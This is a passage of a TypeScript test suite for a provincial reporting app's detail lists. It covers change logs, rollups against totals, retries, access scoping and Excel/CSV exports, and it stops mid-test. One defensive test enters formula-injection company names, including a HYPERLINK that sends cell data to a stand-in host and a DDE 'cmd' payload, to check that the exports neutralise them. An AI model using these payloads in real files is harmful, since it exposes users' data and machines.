// Independent review of detail lists (浮动行, issue 25) in the Worker with real D1: storage as a change log,
// the city's rolled list against its totals on both bases (a city's round and a province's, level by
// level), review notes on rows, revision diffs, cost of a correction, retries and races, bad bodies,
// paging and scoping, the exports, the integrity check, and the fill workbook filled as Excel would.
// A test that exposes a defect asserts what a user expects and fails now; the others hold.
import { beforeAll, describe, expect, it } from "vitest";
import ExcelJS from "exceljs/excel.js";
import { strFromU8, unzipSync } from "fflate";
import {
  DEMO_BRANDS_TEMPLATE, TemplateSchema, compileTemplate, fillBook as layoutBook, sliceUnitsFor, withUsccCheck,
  type CompiledTemplate, type DetailTable, type Template,
} from "@tianbao/shared";
import { api, ensureDemo, env, json, login } from "./helpers";
import { fillBook, pagesOf } from "./fill-book-lib";
import { checkIntegrity } from "../src/integrity/d1";
import { seedProvinceDemo, sessionUserOf } from "../src/demo/seed";
import { meteredD1, type D1Meter } from "../src/db/meter";
import { submitValues } from "../src/workflow/submit";
import { loadCompiled } from "../src/db/templates";
import { findRoundUnder } from "../src/db/rounds";
import { listCsvStream } from "../src/export/list-csv";

// eslint-disable-next-line @typescript-eslint/no-explicit-any -- answers read field by field
type Body = any;
type Row = Record<string, unknown>;
const t = (zh: string, en: string) => ({ zh, en });
const DEADLINE = "2099-12-31T23:59:59+08:00";
const XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
let admin = "";

/** The demo's brands template as a city's own copy (id r25…), its list changed as given. */
function brandsCopy(id: string, change: (d: DetailTable) => DetailTable = (d) => d, more: Partial<Template> = {}): Template {
  const src = structuredClone(DEMO_BRANDS_TEMPLATE) as Template;
  const tables = src.form!.tables.map((x) => (x.kind === "detail" ? change(x) : x));
  return TemplateSchema.parse({ ...src, id, version: 1, status: "draft", ...more, form: { ...src.form, tables } });
}

async function publish(template: Template, token = admin): Promise<number> {
  const { version: _v, status: _s, ...body } = template as Template & Record<string, unknown>;
  const r = await api("/templates", { method: "POST", token, json: { template: body } });
  if (r.status !== 201) throw new Error(`create template ${template.id}: ${r.status} ${await r.text()}`);
  const { version } = await json<{ version: number }>(r);
  const p = await api(`/templates/${template.id}/${version}/publish`, { method: "POST", token });
  if (p.status !== 200) throw new Error(`publish ${template.id}: ${p.status} ${await p.text()}`);
  return version;
}

async function openRound(id: string, templateId: string, version: number, period: string, units: string[], token = admin, extra: Record<string, unknown> = {}): Promise<void> {
  const r = await api("/rounds", { method: "POST", token, json: { id, templateId, templateVersion: version, period, deadline: DEADLINE, expectedUnitIds: units, ...extra } });
  if (r.status !== 201) throw new Error(`round ${id}: ${r.status} ${await r.text()}`);
}

const usccOf = (n: number) => withUsccCheck(`91140525MA0${String(n).padStart(5, "0")}A`);
/** n rows, numbered from `start`: every third a China brand, the rest Shanxi ones; output 1.00, tax 0.10, exports 1 each. */
function mkRows(n: number, start = 0): Row[] {
  return Array.from({ length: n }, (_, k) => {
    const i = start + k;
    return { firm: `晋城市测试${i}有限公司`, uscc: usccOf(10000 + i), product: `产品${i}`, level: i % 3 === 0 ? "cn" : "sx", year: 2020, output: "1.00", tax: "0.10", exports: 1 };
  });
}
/** A decimal (text or number, any decimals up to 2) in hundredths. */
const cents = (v: unknown): bigint => {
  const [i, f = ""] = String(v).split(".");
  const neg = i!.startsWith("-");
  const c = BigInt(i!.replace("-", "")) * 100n + BigInt((f + "00").slice(0, 2));
  return neg ? -c : c;
};
const money = (c: bigint) => `${c < 0n ? "-" : ""}${(c < 0n ? -c : c) / 100n}.${String((c < 0n ? -c : c) % 100n).padStart(2, "0")}`;
/** The fixed figures of 质兴4表 that the list must add up to (the rules between the two tables). */
function figuresOf(rows: Row[]): Row {
  return {
    sx_products: rows.filter((r) => r.level === "sx" || r.level === "山西名牌").length,
    brand_output: money(rows.reduce((s, r) => s + cents(r.output ?? "0.00"), 0n)),
    brand_tax: money(rows.reduce((s, r) => s + cents(r.tax ?? "0.00"), 0n)),
    brand_exports: rows.reduce((s, r) => s + Number(r.exports ?? 0), 0),
  };
}

async function current(round: string, unit: string, token = admin): Promise<Body | null> {
  const r = await api(`/rounds/${round}/submissions/${unit}`, { token });
  return r.status === 200 ? r.json() : null;
}

/** PUT a report: its list (undefined: left out) and the figures it adds up to. */
async function put(round: string, unit: string, rows: Row[] | undefined, o: { values?: Row; ifMatch?: string; key?: string; token?: string; extraLists?: Record<string, unknown> } = {}): Promise<Response> {
  const token = o.token ?? (await login(unit));
  const ifMatch = o.ifMatch ?? `"${(await current(round, unit))?.revision ?? 0}"`;
  const body = { values: o.values ?? figuresOf(rows ?? []), ...(rows !== undefined ? { lists: { producers: rows, ...(o.extraLists ?? {}) } } : {}), acknowledgeWarnings: true };
  return api(`/rounds/${round}/submissions/${unit}`, { method: "PUT", token, headers: { "if-match": ifMatch, ...(o.key ? { "idempotency-key": o.key } : {}) }, json: body });
}
async function putOk(round: string, unit: string, rows: Row[] | undefined, o: Parameters<typeof put>[3] = {}): Promise<Body> {
  const r = await put(round, unit, rows, o);
  if (r.status !== 200 && r.status !== 201) throw new Error(`put ${round} ${unit}: ${r.status} ${await r.text()}`);
  return r.json();
}
async function review(round: string, unit: string, action: "approve" | "return", body: Row = {}, token = admin): Promise<Response> {
  return api(`/rounds/${round}/submissions/${unit}/${action}`, { method: "POST", token, json: action === "return" ? { comment: "请核实", ...body } : body });
}
async function mustReview(round: string, unit: string, action: "approve" | "return", token = admin): Promise<void> {
  const r = await review(round, unit, action, {}, token);
  if (r.status !== 200) throw new Error(`${action} ${round} ${unit}: ${r.status} ${await r.text()}`);
}

const count = async (sql: string, ...binds: unknown[]): Promise<number> => (await env.DB.prepare(sql).bind(...binds).first<{ n: number }>())!.n;
const listRowsAt = (round: string, unit: string, rev: number) => count("SELECT COUNT(*) AS n FROM list_rows WHERE round_id = ? AND unit_id = ? AND revision = ?", round, unit, rev);

/** Every row of a rolled list, page by page. */
async function rolled(round: string, unit: string, basis: "standing" | "approved", token = admin): Promise<{ total: number; rows: Body[] }> {
  const rows: Body[] = [];
  let total = 0;
  for (let offset = 0; ; offset += 1000) {
    const r = await api(`/rounds/${round}/lists/producers?unit=${unit}&basis=${basis}&offset=${offset}&limit=1000`, { token });
    if (r.status !== 200) throw new Error(`rolled ${round} ${unit}: ${r.status} ${await r.text()}`);
    const page = await r.json() as Body;
    total = page.total;
    rows.push(...page.rows);
    if (page.rows.length < 1000) break;
  }
  return { total, rows };
}

/** The rolled list against the totals' list figures at a unit on a basis: rows, sums, rows by option. */
async function rollupAgainstTotals(round: string, unit: string, basis: "standing" | "approved", token = admin): Promise<{ list: Row; totals: Row }> {
  const { total, rows } = await rolled(round, unit, basis, token);
  const tv = await (await api(`/rounds/${round}/totals?unit=${unit}&basis=${basis}`, { token })).json() as Body;
  const ind = (code: string) => tv.totals.indicators[code]?.value ?? null;
  const sum = (f: string) => { const vs = rows.map((r) => r.values[f]).filter((v) => v !== undefined && v !== null); return vs.length === 0 ? null : money(vs.reduce((s: bigint, v: unknown) => s + cents(v), 0n)); };
  const asMoney = (v: string | null) => (v === null ? null : v.includes(".") ? v : `${v}.00`);
  return {
    list: { total, rows: rows.length, sx: rows.filter((r) => r.values.level === "sx").length, output: sum("output"), tax: sum("tax"), exports: sum("exports") },
    totals: { total: Number(ind("producers_rows") ?? 0), rows: Number(ind("producers_rows") ?? 0), sx: Number(ind("producers_level_sx_rows") ?? 0), output: asMoney(ind("producers_output")), tax: asMoney(ind("producers_tax")), exports: asMoney(ind("producers_exports")) },
  };
}
async function expectConsistent(round: string, unit: string, basis: "standing" | "approved", token = admin): Promise<Row> {
  const { list, totals } = await rollupAgainstTotals(round, unit, basis, token);
  expect(list, `${round} ${unit} ${basis}`).toEqual(totals);
  return list;
}

beforeAll(async () => {
  await ensureDemo();
  admin = await login("admin");
}, 120_000);

// ---------------------------------------------------------------------------------------------------
describe("issue 25 review: the change log, the rolled list and the totals (a city's round)", () => {
  const R = "r25a2600";
  beforeAll(async () => {
    // the brands form with a second code field (no check) and room for 5,000 rows
    const v = await publish(brandsCopy("r25_brands", (d) => ({
      ...d, maxRows: 5000, fields: [...d.fields, { code: "batch", name: t("批次号", "Batch"), type: "code", required: false, maxLength: 30, decimals: 0 }],
    })));
    await openRound(R, "r25_brands", v, "2600", ["zezhou", "gaoping", "yangcheng", "qinshui", "chengqu", "lingchuan"]);
  }, 120_000);

  it("HELD: a list left out is kept, a shorter one leaves tombstones, a re-sorted one is no change, an empty one clears it; the figures follow each time", async () => {
    const rows = mkRows(5);
    const r1 = await putOk(R, "zezhou", rows);
    expect(r1.revision).toBe(1);
    expect(r1.values.producers_rows).toBe(5);
    expect(await listRowsAt(R, "zezhou", 1)).toBe(5);
    // left out: kept, nothing written to the log
    const r2 = await putOk(R, "zezhou", undefined, { values: figuresOf(rows) });
    expect(r2.values.producers_rows).toBe(5);
    expect(await listRowsAt(R, "zezhou", 2)).toBe(0);
    expect((await current(R, "zezhou"))!.lists.producers).toHaveLength(5);
    // shorter: two tombstones
    const r3 = await putOk(R, "zezhou", rows.slice(0, 3));
    expect(r3.values.producers_rows).toBe(3);
    expect(await count("SELECT COUNT(*) AS n FROM list_rows WHERE round_id = ? AND unit_id = 'zezhou' AND revision = 3 AND value = 'null'", R)).toBe(2);
    expect(await count("SELECT COUNT(*) AS n FROM current_list_rows WHERE round_id = ? AND unit_id = 'zezhou'", R)).toBe(3);
    // re-sorted: no change by key
    await putOk(R, "zezhou", [...rows.slice(0, 3)].reverse());
    const d34 = await (await api(`/rounds/${R}/submissions/zezhou/diff?from=3&to=4`, { token: admin })).json() as Body;
    expect(d34.lists[0]).toMatchObject({ table: "producers", added: [], removed: [], changed: [] });
    // an old revision still reads as it was: 1 → 3 removed rows 4 and 5
    const d13 = await (await api(`/rounds/${R}/submissions/zezhou/diff?from=1&to=3`, { token: admin })).json() as Body;
    expect(d13.lists[0].removed.map((x: Body) => x.row)).toEqual([4, 5]);
    // empty: cleared, 0 rows
    const r5 = await putOk(R, "zezhou", [], { values: { sx_products: 0, brand_output: "0.00", brand_tax: "0.00", brand_exports: 0 } });
    expect(r5.values.producers_rows).toBe(0);
    expect((await current(R, "zezhou"))!.lists.producers).toEqual([]);
    // and back again: rows written over the tombstones
    await putOk(R, "zezhou", mkRows(4, 100));
    const d56 = await (await api(`/rounds/${R}/submissions/zezhou/diff?from=5&to=6`, { token: admin })).json() as Body;
    expect(d56.lists[0].added.map((x: Body) => x.row)).toEqual([1, 2, 3, 4]);
    const d46 = await (await api(`/rounds/${R}/submissions/zezhou/diff?from=4&to=6`, { token: admin })).json() as Body;
    expect([d46.lists[0].added.length, d46.lists[0].removed.length]).toEqual([4, 3]);
    await expectConsistent(R, "jincheng", "standing");
  });

  it("HELD: return with a note on a row, resubmit with the list left out, approve, reopen, clear: the rolled list equals the totals' list figures on both bases every time", async () => {
    const rows = mkRows(21, 200);
    await putOk(R, "gaoping", rows);
    await expectConsistent(R, "jincheng", "standing");
    const past = await review(R, "gaoping", "return", { indicatorComments: { "producers#22": "没有这一行" } });
    expect(past.status).toBe(422);
    const pastBody = await past.json() as Body;
    expect(pastBody.error.message.zh).toContain("第 22 行");
    const other = await review(R, "gaoping", "return", { indicatorComments: { "nolist#3": "x" } });
    expect(other.status).toBe(422);
    const ret = await review(R, "gaoping", "return", { indicatorComments: { "producers#17": "企业名称与营业执照不符" } });
    expect(ret.status, await ret.clone().text()).toBe(200);
    const seen = await current(R, "gaoping", await login("gaoping"));
    expect(seen.state).toBe("returned");
    expect(seen.reviewIndicatorComments["producers#17"]).toBe("企业名称与营业执照不符");
    await expectConsistent(R, "jincheng", "standing");
    // resubmitted with the list left out: the 21 rows stand again
    await putOk(R, "gaoping", undefined, { values: figuresOf(rows) });
    expect((await current(R, "gaoping"))!.lists.producers).toHaveLength(21);
    const st = await expectConsistent(R, "jincheng", "standing");
    expect(st.rows).toBeGreaterThanOrEqual(21);
    await mustReview(R, "gaoping", "approve");
    const ap = await expectConsistent(R, "jincheng", "approved");
    expect(ap.rows).toBe(21);
    const re = await api(`/rounds/${R}/reopen`, { method: "POST", token: admin, json: { unitId: "gaoping", reason: "更正名单" } });
    expect(re.status, await re.clone().text()).toBe(200);
    await expectConsistent(R, "jincheng", "approved");
    await expectConsistent(R, "jincheng", "standing");
    await putOk(R, "gaoping", [], { values: { sx_products: 0, brand_output: "0.00", brand_tax: "0.00", brand_exports: 0 } });
    await expectConsistent(R, "jincheng", "standing");
    await expectConsistent(R, "jincheng", "approved");
    await putOk(R, "gaoping", rows.slice(0, 10));
    await mustReview(R, "gaoping", "approve");
    expect((await expectConsistent(R, "jincheng", "approved")).rows).toBe(10);
  });

  it("HELD: a one-row correction of a 2,000-row list writes one list row and a bounded number of D1 rows; a retry replays; a second key with another body is refused", async () => {
    const rows = mkRows(2000, 1000);
    const t0 = Date.now();
    await putOk(R, "yangcheng", rows);
    console.log(`2,000-row first submission: ${Date.now() - t0} ms`);
    const fixed = rows.map((r, i) => (i === 999 ? { ...r, output: "2.00" } : r));
    const compiled = (await loadCompiled(env.DB, "r25_brands", 1))!;
    const round = (await findRoundUnder(env.DB, "/shanxi/jincheng/yangcheng/", R))!;
    const meter: D1Meter = { read: 0, written: 0, queries: 0 };
    const done = await submitValues(meteredD1(env.DB, meter), {
      round: round as never, compiled, unitId: "yangcheng", unitPath: "/shanxi/jincheng/yangcheng/", user: await sessionUserOf(env.DB, "yangcheng"),
      // in the order the API's schema hands a parsed body over (values, acknowledgeWarnings, lists), so the API's retry below matches it
      body: { values: figuresOf(fixed) as never, acknowledgeWarnings: true, lists: { producers: fixed as never } }, ifMatch: '"1"', idempotencyKey: "r25-cost-0001", previous: null,
    }, new Date());
    expect(done.ok, JSON.stringify(done)).toBe(true);
    console.log(`one-row correction of 2,000: ${meter.written} rows written, ${meter.read} read, ${meter.queries} queries`);
    expect(await listRowsAt(R, "yangcheng", 2)).toBe(1);
    expect(await count("SELECT COUNT(*) AS n FROM revision_values WHERE round_id = ? AND unit_id = 'yangcheng' AND revision = 2", R)).toBeLessThanOrEqual(6);
    expect(meter.written).toBeLessThan(100);
    // the same request again (a retry through the API): replayed, nothing more stored
    const again = await put(R, "yangcheng", fixed, { ifMatch: '"1"', key: "r25-cost-0001" });
    expect(again.status, await again.clone().text()).toBe(200);
    expect((await again.json() as Body).replayed).toBe(true);
    expect(await count("SELECT COUNT(*) AS n FROM revisions WHERE round_id = ? AND unit_id = 'yangcheng'", R)).toBe(2);
    const other = await put(R, "yangcheng", rows, { ifMatch: '"1"', key: "r25-cost-0001" });
    expect(other.status).toBe(422);
    expect((await other.json() as Body).error.code).toBe("idempotency_mismatch");
  });

  it("HELD: two officials of one county submit different corrections at once: one wins whole, the other gets 412 and nothing of it is stored", async () => {
    const before = (await current(R, "yangcheng"))!;
    const base = before.lists.producers as Row[];
    const a = base.map((r, i) => (i === 0 ? { ...r, output: "3.00" } : r));
    const b = base.map((r, i) => (i === 1999 ? { ...r, output: "4.00" } : i === 5 ? { ...r, firm: "改名公司" } : r));
    const ifMatch = `"${before.revision}"`;
    const [ra, rb] = await Promise.all([put(R, "yangcheng", a, { ifMatch }), put(R, "yangcheng", b, { ifMatch })]);
    expect([ra.status, rb.status].sort()).toEqual([200, 412]);
    const winner = ra.status === 200 ? a : b;
    const now = (await current(R, "yangcheng"))!;
    expect(now.revision).toBe(before.revision + 1);
    expect(await listRowsAt(R, "yangcheng", now.revision)).toBe(winner === a ? 1 : 2);
    expect(now.lists.producers).toEqual(winner.map((r) => ({ ...r, exports: String(r.exports) })));
    await expectConsistent(R, "jincheng", "standing");
  });

  it("HELD: bad list bodies never 500: each is a clear zh/en 4xx naming where, and nothing is stored", async () => {
    const token = await login("qinshui");
    const path = `/rounds/${R}/submissions/qinshui`;
    const send = (body: unknown) => api(path, { method: "PUT", token, headers: { "if-match": '"0"', "content-type": "application/json" }, body: JSON.stringify(body) });
    const values = figuresOf([]);
    const cases: [string, unknown, number, string][] = [
      ["lists as an array", { values, lists: [] }, 422, "lists"],
      ["a list not an array", { values, lists: { producers: {} } }, 422, "producers"],
      ["rows not objects", { values, lists: { producers: [1, "x", null] } }, 422, "producers"],
      ["a nested object as a value", { values, lists: { producers: [{ ...mkRows(1)[0], firm: { zh: "a" } }] } }, 422, "firm"],
      ["a nested array as a value", { values, lists: { producers: [{ ...mkRows(1)[0], firm: ["a"] }] } }, 422, "firm"],
      ["lists null", { values, lists: null }, 422, "lists"],
      ["an unknown list", { values, lists: { nolist: [] } }, 422, "nolist"],
      ["a prototype name as list", { values, lists: { constructor: [] } }, 422, "constructor"],
      ["a field key of 41 characters", { values, lists: { producers: [{ ["x".repeat(41)]: 1 }] } }, 422, "producers"],
      ["10,001 rows", { values, lists: { producers: Array.from({ length: 10_001 }, () => ({})) } }, 422, "producers"],
    ];
    for (const [what, body, status, where] of cases) {
      const r = await send(body);
      const text = await r.text();
      expect(r.status, `${what}: ${text.slice(0, 300)}`).toBe(status);
      const err = (JSON.parse(text) as Body).error;
      expect(err.message.zh.length, what).toBeGreaterThan(0);
      expect(err.message.en.length, what).toBeGreaterThan(0);
      expect(`${err.where ?? ""} ${err.message.en} ${JSON.stringify(err.issues ?? [])}`, what).toContain(where);
    }
    // a 4 MB body
    const big = await send({ values, lists: { producers: Array.from({ length: 5000 }, (_, i) => ({ firm: "名".repeat(280), product: String(i) })) } });
    expect(big.status).toBe(413);
    expect((await current(R, "qinshui"))?.revision ?? 0).toBe(0);
    expect(await count("SELECT COUNT(*) AS n FROM list_rows WHERE round_id = ? AND unit_id = 'qinshui'", R)).toBe(0);
  });

  it("HELD: 5,000 rows (the template's most) are taken; 5,001 are refused at row 5,001 with nothing stored", async () => {
    const token = await login("chengqu");
    const over = mkRows(5001, 5000);
    const r = await put(R, "chengqu", over, { token, ifMatch: '"0"' });
    expect(r.status).toBe(422);
    const body = await r.json() as Body;
    const tooMany = body.error.issues.find((i: Body) => i.code === "too_many_rows");
    expect(tooMany.message.zh).toContain("5001");
    expect((await current(R, "chengqu"))?.revision ?? 0).toBe(0);
    const t0 = Date.now();
    const ok = await put(R, "chengqu", over.slice(0, 5000), { token, ifMatch: '"0"' });
    console.log(`5,000-row submission: ${Date.now() - t0} ms`);
    expect(ok.status, (await ok.clone().text()).slice(0, 300)).toBe(201);
    await expectConsistent(R, "jincheng", "standing");
  });

  it("HELD: paging: past the end is an empty page with the total; limit 0, 1,001, a negative offset and text are refused; the last row is reachable", async () => {
    const first = await (await api(`/rounds/${R}/lists/producers?limit=1`, { token: admin })).json() as Body;
    const total = first.total as number;
    expect(total).toBeGreaterThan(5000);
    const past = await api(`/rounds/${R}/lists/producers?offset=${total + 10}&limit=5`, { token: admin });
    expect(past.status).toBe(200);
    expect(await past.json()).toMatchObject({ total, rows: [] });
    for (const q of ["limit=0", "limit=1001", "offset=-1", "limit=abc", "offset=1.5", "basis=everything"]) {
      const r = await api(`/rounds/${R}/lists/producers?${q}`, { token: admin });
      expect(r.status, q).toBe(422);
    }
    const last = await (await api(`/rounds/${R}/lists/producers?offset=${total - 1}&limit=1000`, { token: admin })).json() as Body;
    expect(last.rows).toHaveLength(1);
    // every row exactly once across pages
    const all = await rolled(R, "jincheng", "standing");
    expect(all.rows).toHaveLength(total);
    expect(new Set(all.rows.map((r) => `${r.unitId}#${r.row}`)).size).toBe(total);
  });

  it("HELD: scoping: another city, an id differing by case, a county reading its city's, a sibling's or its own rolled list are refused; the city's viewer reads a county's", async () => {
    await seedProvinceDemo(env.DB);
    const changzhi = await login("changzhi");
    for (const [token, q] of [[changzhi, "?unit=jincheng"], [changzhi, ""], [admin, "?unit=JINCHENG"], [admin, "?unit=Zezhou"], [await login("zezhou"), "?unit=jincheng"], [await login("zezhou"), "?unit=gaoping"]] as const) {
      const r = await api(`/rounds/${R}/lists/producers${q}`, { token });
      expect([403, 404], `${q}`).toContain(r.status);
    }
    // a county's reporter reads its own list on its report, not the rolled list; the city's viewer reads the city's
    expect([403, 404]).toContain((await api(`/rounds/${R}/lists/producers`, { token: await login("zezhou") })).status);
    const viewer = await (await api(`/rounds/${R}/lists/producers?unit=zezhou`, { token: await login("chakan") })).json() as Body;
    expect(viewer.rows.every((r: Body) => r.unitId === "zezhou")).toBe(true);
    expect(viewer.total).toBe(4);
    expect((await api(`/rounds/${R}/lists/Producers`, { token: admin })).status).toBe(404);
    expect((await api(`/rounds/${R}/lists/constructor`, { token: admin })).status).toBe(404);
    const csv = await api(`/rounds/${R}/export.csv?list=producers&unit=gaoping`, { token: await login("zezhou") });
    expect([403, 404]).toContain(csv.status);
  });
});

// ---------------------------------------------------------------------------------------------------
describe("issue 25 review: what a county types reaches the city's workbook and CSV intact", () => {
  const R = "r25x2601";
  beforeAll(async () => {
    const v = (await api("/templates/r25_brands/1", { token: admin })).status === 200 ? 1 : 0;
    if (v === 0) throw new Error("r25_brands not published");
    await openRound(R, "r25_brands", 1, "2601", ["zezhou", "lingchuan"]);
  }, 60_000);

  it("HELD: names that look like formulas, quotes and apostrophes go into the aggregate workbook as text and into the CSV neutralised", async () => {
    const rows = mkRows(4, 300);
    rows[0]!.firm = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")';
    rows[1]!.firm = "+86 356 1234";
    rows[2]!.firm = "@SUM(1+1)*cmd|' /C calc'!A0";
    rows[3]!.firm = "O'Brien \"晋城\" 公司";
    await putOk(R, "zezhou", rows);
    const res = await api(`/rounds/${R}/export.xlsx`, { token: admin });
    expect(res.status).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(await res.arrayBuffer());
    const ws = wb.worksheets.find((w) => w.name.includes("名牌产品生产企业名单"))!;
    expect(ws).toBeDefined();
    const texts: unknown[] = [];
    ws.eachRow((r) => r.eachCell((c) => texts.push(c.value)));
    for (const r of rows) expect(texts).toContain(r.firm);
    const formulas: string[] = [];
    ws.eachRow((r) => r.eachCell((c) => { const v = c.value as Body; if (v && typeof v === "object" && "formula" in v && /HYPERLINK|cmd/i.test(v.formula)) formulas.push(v.formula); }));
    expect(formulas).toEqual([]);
    const csv = await (await api(`/rounds/${R}/export.csv?list=producers`, { token: admin })).text();
    for (const bad of ["=HYPERLINK", "+86", "@SUM"]) expect(csv).not.toMatch(new RegExp(`(^|,|")${bad.replace(/[+]/g, "\\+")}`, "m"));
  });

  it("HELD: a control character pasted into a code field (accepted: see the shared FINDING) never makes the city's aggregate workbook unreadable", async () => {
    const rows = mkRows(2, 400);
    rows[0]!.batch = "B\u0007-2024\u0001";
    const r = await put(R, "lingchuan", rows);
    if (r.status === 422) return; // refused: what a user expects
    expect([200, 201]).toContain(r.status);
    const res = await api(`/rounds/${R}/export.xlsx`, { token: admin });
    const files = unzipSync(new Uint8Array(await res.arrayBuffer()));
    const bad = Object.entries(files).filter(([name, data]) => name.endsWith(".xml") && /[\u0000-\u0008\u000B\u000C\u000E-\u001F]/.test(strFromU8(data))).map(([name]) => name);
    // XML 1.0 has no place for these characters: Excel refuses the whole file ("We found a problem with some content")
    expect(bad).toEqual([]);
  });
});

describe("issue 25 review: what reading a long list costs", () => {
  it("FINDING: the city's list CSV reads D1 rows in proportion to the list (paging by OFFSET re-reads and re-sorts every row before each page)", async () => {
    const R = "r25a2600";
    const compiled = (await loadCompiled(env.DB, "r25_brands", 1))!;
    const table = compiled.template.form!.tables.find((x) => x.kind === "detail") as DetailTable;
    const meter: D1Meter = { read: 0, written: 0, queries: 0 };
    const stream = listCsvStream(meteredD1(env.DB, meter), { roundId: R, path: "/shanxi/jincheng/", table, basis: "standing", nameOf: (_id, plain) => plain });
    const text = await new Response(stream).text();
    const lines = text.split("\r\n").filter((l) => l !== "").length - 1;
    console.log(`list CSV of ${lines} rows: ${meter.read} D1 rows read in ${meter.queries} queries (${(meter.read / lines).toFixed(1)} a row)`);
    expect(lines).toBeGreaterThan(7000);
    // a list of 100,000 rows (LIST_CSV_ROWS) would read 100 pages × the whole list: ~10^7 rows for one download
    expect(meter.read).toBeLessThan(4 * lines + 5000);
  });

  it("FINDING: the integrity check's slice is bounded by its units (sliceUnits 'bounds a slice's rows and memory'), whatever the lists hold", async () => {
    const report = await checkIntegrity(env.DB, "/", new Date());
    const slice = report.work.filter((w) => w.roundId === "r25a2600" && w.slice > 0);
    const perUnit = Math.max(...slice.map((w) => w.rows / Math.max(1, w.units)));
    console.log(`integrity slices of r25a2600: ${JSON.stringify(slice)}; ${perUnit.toFixed(0)} rows a unit`);
    // DEFAULT_LIMITS: 500 units a slice, measured at 99,365 rows (~42 MB) for 495 units of the built-in template;
    // at this round's rows a unit, a slice of 500 counties would read 500 × perUnit rows into one Worker
    // fixed: a template with lists gets slices of fewer units (sliceUnitsFor), as many as its lists' most rows allow
    const compiled = (await loadCompiled(env.DB, "r25_brands", 1))!;
    expect(sliceUnitsFor(compiled, 500) * perUnit).toBeLessThan(2 * 99_365);
  });
});

describe("issue 25 review: a list goes down into the fill workbook and back up unchanged", () => {
  it("HELD: 2,000 rows downloaded and uploaded again as they are: the same list, not one list row written", async () => {
    const R = "r25a2600";
    const before = (await current(R, "yangcheng"))!;
    expect(before.lists.producers.length).toBe(2000);
    const token = await login("yangcheng");
    const res = await api(`/rounds/${R}/submissions/yangcheng/template.xlsx`, { token });
    expect(res.status).toBe(200);
    const up = await api(`/rounds/${R}/submissions/yangcheng/upload?acknowledgeWarnings=1`, { method: "POST", token, body: await res.arrayBuffer(), headers: { "content-type": XLSX } });
    expect(up.status, (await up.clone().text()).slice(0, 400)).toBe(200);
    const after = (await current(R, "yangcheng"))!;
    expect(after.revision).toBe(before.revision + 1);
    expect(after.lists.producers).toEqual(before.lists.producers);
    expect(await listRowsAt(R, "yangcheng", after.revision)).toBe(0);
    await expectConsistent(R, "jincheng", "standing");
  }, 120_000);

  it("HELD: names that look like formulas come back from the fill workbook as the names they are", async () => {
    const R = "r25x2601";
    const before = (await current(R, "zezhou"))!;
    const token = await login("zezhou");
    const res = await api(`/rounds/${R}/submissions/zezhou/template.xlsx`, { token });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(await res.arrayBuffer());
    // opened and saved by a spreadsheet (exceljs), as an official would
    const up = await api(`/rounds/${R}/submissions/zezhou/upload?acknowledgeWarnings=1`, { method: "POST", token, body: (await wb.xlsx.writeBuffer()) as ArrayBuffer, headers: { "content-type": XLSX } });
    expect(up.status, (await up.clone().text()).slice(0, 400)).toBe(200);
    const after = (await current(R, "zezhou"))!;
    expect(after.lists.producers).toEqual(before.lists.producers);
    expect(await listRowsAt(R, "zezhou", after.revision)).toBe(0);
  }, 120_000);

  it("FINDING: an all-digit credit code in the list's CSV keeps its 18 digits when the file is opened (not 1.11405E+17)", async () => {
    await openRound("r25c2605", "r25_brands", 1, "2605", ["gaoping"]);
    const rows = mkRows(1, 900);
    rows[0]!.uscc = "111405000123456762";
    rows[0]!.firm = "晋城市高平市市场监督管理局";
    await putOk("r25c2605", "gaoping", rows);
    const csv = await (await api("/rounds/r25c2605/export.csv?list=producers", { token: admin })).text();
    const line = csv.split("\r\n").find((l) => l.includes("111405000123456762"))!;
    expect(line).toBeDefined();
    const cell = line.split(",").find((c) => c.includes("111405000123456762"))!;
    expect(/^'|^="|^"="/.test(cell), cell).toBe(true);
  });
});

// ---------------------------------------------------------------------------------------------------
describe("issue 25 review: a province's round, level by level (levels freeze)", () => {
  const R = "r25p2602";
  let sheng = "";
  let shenhe = "";
  beforeAll(async () => {
    await seedProvinceDemo(env.DB);
    sheng = await login("sheng");
    shenhe = await login("shenhe");
    const v = await publish(brandsCopy("r25_prov"), sheng);
    await openRound(R, "r25_prov", v, "2602", ["zezhou", "gaoping", "zhangzi", "tunliu"], sheng, { levelDeadlines: { city: DEADLINE } });
  }, 120_000);

  const levelRevision = async () => (await current(R, "jincheng", sheng))?.revision ?? 0;
  const levelAct = async (action: "submit" | "return" | "approve", token: string, body: Row = {}) => {
    const r = await api(`/rounds/${R}/levels/jincheng/${action}`, { method: "POST", token, headers: { "if-match": `"${await levelRevision()}"` }, json: body });
    if (r.status !== 200) throw new Error(`level ${action}: ${r.status} ${await r.text()}`);
  };
  const bothEqual = async () => {
    for (const unit of ["shanxi", "jincheng"]) for (const basis of ["standing", "approved"] as const) await expectConsistent(R, unit, basis, unit === "shanxi" ? sheng : admin);
  };

  it("HELD: the province's rolled list on the accepted basis holds a city's rows only once the province approved the city, equal to its totals' list figures at every step", async () => {
    await putOk(R, "zezhou", mkRows(7, 500));
    await putOk(R, "gaoping", mkRows(5, 600));
    await putOk(R, "zhangzi", mkRows(3, 700));
    await bothEqual();
    expect((await rolled(R, "shanxi", "standing", sheng)).total).toBe(15);
    expect((await rolled(R, "shanxi", "approved", sheng)).total).toBe(0);
    // the province cannot review a county directly, and the city cannot approve its own upward submission
    expect((await review(R, "zezhou", "approve", {}, sheng)).status).toBe(403);
    await mustReview(R, "zezhou", "approve", shenhe);
    await mustReview(R, "gaoping", "approve", shenhe);
    await bothEqual();
    expect((await rolled(R, "jincheng", "approved")).total).toBe(12);
    expect((await rolled(R, "shanxi", "approved", sheng)).total).toBe(0);
    await levelAct("submit", admin, { comment: "请审核" });
    const self = await api(`/rounds/${R}/levels/jincheng/approve`, { method: "POST", token: admin, headers: { "if-match": `"${await levelRevision()}"` }, json: {} });
    expect(self.status).toBe(403);
    await bothEqual();
    // returned by the province: the city reopens a county, which drops two rows
    await levelAct("return", sheng, { comment: "泽州名单有误" });
    const re = await api(`/rounds/${R}/reopen`, { method: "POST", token: admin, json: { unitId: "zezhou", reason: "省里退回" } });
    expect(re.status, await re.clone().text()).toBe(200);
    await putOk(R, "zezhou", mkRows(5, 500));
    await bothEqual();
    await mustReview(R, "zezhou", "approve", shenhe);
    await levelAct("submit", admin);
    await bothEqual();
